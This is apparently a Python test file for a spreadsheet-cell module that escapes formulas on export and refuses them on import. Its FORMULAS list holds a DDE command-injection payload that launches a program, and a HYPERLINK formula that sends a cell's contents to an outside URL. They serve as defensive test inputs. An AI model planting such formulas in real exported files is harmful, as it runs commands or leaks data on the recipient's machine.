"""What a cell may hold: formulas out and in, hostile characters."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.exchange import cells

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"ici")',
    "+33 1 40",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "－1",
    "＠SUM(1)",
    "+",
]
PLAIN = ["Bakou", "10-11 mai", "l’Union = l’UE", "a@b", "'", "’=x", "1=1", ""]
HOSTILE = [
    "a\0b",
    "\ud800",
    "Ba\u202ekou",
    "Ba\u200bkou",
    "Ba\ufeffkou",
    "Bak�u",
    "\x07",
    "x" * 1_000_000,
    "#REF!",
    "#N/A",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_is_escaped_on_the_way_out_and_refused_on_the_way_in(text):
    assert cells.escaped(text) == f"'{text}"
    assert cells.accepted(f"'{text}") == text.strip()
    with pytest.raises(cells.Refused, match="serait une formule"):
        cells.accepted(text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_goes_out_and_comes_in_as_it_is(text):
    assert cells.escaped(text) == cells.accepted(text) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_refused_in_words_that_can_be_printed(text):
    with pytest.raises(cells.Refused) as refused:
        cells.accepted(text)
    assert len(str(refused.value).encode()) < 500


@given(st.text())
def test_nothing_written_begins_as_a_formula_and_all_of_it_is_read_back(text):
    written = cells.escaped(text)
    assert not cells.FORMULA.match(written)
    assert (written[1:] if cells.ESCAPABLE.match(written) else written) == text


def test_composed_letters_are_written_as_one():
    assert cells.accepted("Zoe\u0301") == "Zoé"


@pytest.mark.parametrize("parts", [["a", "b"], ["a ; b", "c"], ["A | b", "x;y"], ["", "b"], ["a"]])
@pytest.mark.parametrize("sign", [";", "|"])
def test_parts_of_a_cell_are_taken_apart_as_they_were_joined(parts, sign):
    assert [cells.bare(part) for part in cells.split(cells.joined(parts, sign), sign)] == parts
